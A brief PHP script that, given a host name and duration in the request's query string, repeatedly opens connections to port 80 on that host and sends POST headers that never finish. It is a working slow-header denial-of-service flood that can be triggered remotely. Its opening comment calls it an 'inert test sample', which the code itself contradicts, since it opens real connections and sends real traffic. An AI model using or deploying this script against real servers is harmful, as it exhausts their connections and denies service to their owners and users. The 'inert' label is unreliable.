<?php
// inert test sample: keeps opening connections to a chosen host and sends headers that never end
$target = $_GET['host'];
$seconds = (int) $_GET['secs'];
set_time_limit(0);
ignore_user_abort(true);
$stop = time() + $seconds;
while (true) {
    if (time() > $stop) {
        break;
    }
    $c = @fsockopen($target, 80, $errno, $errstr, 30);
    if (!$c) {
        continue;
    } else {
        $head = "POST /index.php HTTP/1.1\r\nHost: " . $target . "\r\nContent-Length: 9999\r\n";
        fwrite($c, $head);
    }
}
echo 'done';
